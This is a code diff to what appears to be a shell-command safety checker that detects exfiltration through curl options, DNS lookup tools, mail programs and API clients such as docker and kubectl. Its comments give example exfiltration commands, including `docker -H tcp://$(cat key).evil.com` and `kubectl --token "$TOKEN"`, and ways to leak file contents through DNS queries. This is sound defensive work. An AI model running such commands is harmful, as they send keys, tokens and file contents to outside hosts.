@@ -18,12 +18,17 @@ from aish.safety.bash.command_walk import Arg
 
 __all__ = ["PROGRAMS", "Options", "Program", "read_options", "uploaded"]
 
-# How a program names its destination.
-Shape = Literal["url", "host_port", "ssh", "copy", "git", "lookup", "probe", "mail", "socat"]
+# How a program names its destination. A "client" talks to the service its configuration (or
+# an option like `docker -H`, `kubectl --server`, `npm --registry`) names: every word can end
+# up in a request, a host name or a query string there.
+Shape = Literal[
+    "url", "host_port", "ssh", "copy", "git", "lookup", "probe", "mail", "socat", "client"
+]
 # How an upload option's value names what leaves: a file (`-T f`), `@file` (`-d @f`),
 # `name@file` (`--data-urlencode n@f`), `name=@file` or `name=<file` (`-F x=@f`), a cookie
-# file unless the value has `=`, or credentials the program reads by itself (`--netrc`).
-Upload = Literal["file", "at", "named_at", "form", "cookie", "netrc"]
+# file unless the value has `=`, credentials the program reads by itself (`--netrc`), or a
+# curl variable, which may also be imported from the environment (`--variable %TOKEN`).
+Upload = Literal["file", "at", "named_at", "form", "cookie", "netrc", "variable"]
 
 
 def _opts(text: str) -> frozenset[str]:
@@ -42,9 +47,16 @@ class Program:
     input_off: str | None = None
 
 
+# Every curl option whose value can name a file whose contents then leave: as a header (also
+# to a proxy), as the query (`--url-query @f`, `n@f`, `+@f`), as an ETag (`--etag-compare f`
+# sends the file's contents in If-None-Match), or as the URLs to fetch (`--url @f`: a host
+# read from a file is looked up by name, which sends it to the DNS server).
 _CURL_UPLOADS: tuple[tuple[str, Upload], ...] = (
     *((o, "at") for o in _opts("-d --data --data-ascii --data-binary --json -H --header")),
-    *((o, "named_at") for o in _opts("--data-urlencode --variable")),
+    *((o, "at") for o in _opts("--proxy-header --url")),
+    *((o, "named_at") for o in _opts("--data-urlencode --url-query")),
+    ("--variable", "variable"),
+    ("--etag-compare", "file"),
     *((o, "form") for o in _opts("-F --form")),
     *((o, "file") for o in _opts("-T --upload-file -K --config --netrc-file")),
     ("-b", "cookie"),
@@ -60,7 +72,9 @@ _CURL = Program(
         "--upload-file --config --cookie --cookie-jar --cert --cacert --key --url --variable "
         "--write-out --netrc-file --connect-timeout --retry --resolve --connect-to --interface "
         "--output-dir --range --continue-at --proxy-user --oauth2-bearer --quote --limit-rate "
-        "--max-filesize --dump-header --trace --trace-ascii --stderr --expand-url"
+        "--max-filesize --dump-header --trace --trace-ascii --stderr --expand-url "
+        "--url-query --proxy-header --etag-compare --etag-save --expand-data --unix-socket "
+        "--abstract-unix-socket"
     ),
     uploads=_CURL_UPLOADS,
 )
@@ -107,7 +121,19 @@ _RSYNC = Program(
     uploads=(("--files-from", "file"), ("--password-file", "file")),
     default_port=873,
 )
-_LOOKUP = Program("lookup", short_values="bcfkpqtxy", default_port=53)
+# `dig -f FILE` looks up every name in FILE; nslookup with no name (or `-`) reads the names
+# to look up from its input: either way what leaves is a file's contents, as DNS queries.
+_LOOKUP = Program("lookup", short_values="bcfkpqtxy", uploads=(("-f", "file"),), default_port=53)
+_NSLOOKUP = Program("lookup", short_values="", sends_input=True, default_port=53)
+# Clients of a remote API or registry that the read-only tables vouch for when their words are
+# literal (`docker ps`, `kubectl get pods`, `npm view x`): a word computed at run time goes
+# to the service (`docker search $(cat key)`, `kubectl --token "$TOKEN"`), or names it
+# (`docker -H tcp://$(cat key).evil.com`, a DNS query that carries the key).
+_CLIENT = Program("client")
+_CLIENTS = (
+    "docker podman nerdctl kubectl oc helm aws gcloud az gh pip pip3 npm pnpm yarn brew "
+    "terraform tofu"
+)
 _PROBE = Program("probe", short_values="cfiIlmMpQsStTwWgqhHzNPF", default_port=None)
 _MAIL = Program(
     "mail",
@@ -155,7 +181,7 @@ PROGRAMS: dict[str, Program] = {
     "rsync": _RSYNC,
     "git": Program("git"),
     "dig": _LOOKUP,
-    "nslookup": _LOOKUP,
+    "nslookup": _NSLOOKUP,
     "host": Program("lookup", short_values="cNRtWm", default_port=53),
     "drill": _LOOKUP,
     "getent": Program("lookup", short_values="s", default_port=53),
@@ -176,6 +202,7 @@ PROGRAMS: dict[str, Program] = {
     "mutt": _MAIL,
     "sendmail": Program("mail", short_values="fFrRNOoBCLpqVX", sends_input=True),
     "msmtp": Program("mail", short_values="fCaN", sends_input=True),
+    **dict.fromkeys(_CLIENTS.split(), _CLIENT),
 }
 
 
@@ -252,6 +279,11 @@ def uploaded(kind: Upload, value: Arg | None) -> str | None:
     text = value.value if value.value is not None else value.text
     if kind == "cookie" and "=" in text:
         return None
+    if kind == "variable":
+        if text.startswith("%"):
+            name = re.split(r"[=@]", text[1:], maxsplit=1)[0]
+            return f"the environment variable {name}"
+        kind = "named_at"
     if kind in ("at", "named_at", "form"):
         pattern = {"at": _AT, "named_at": _NAMED_AT, "form": _FORM_FILE}[kind]
         found = pattern.match(text)
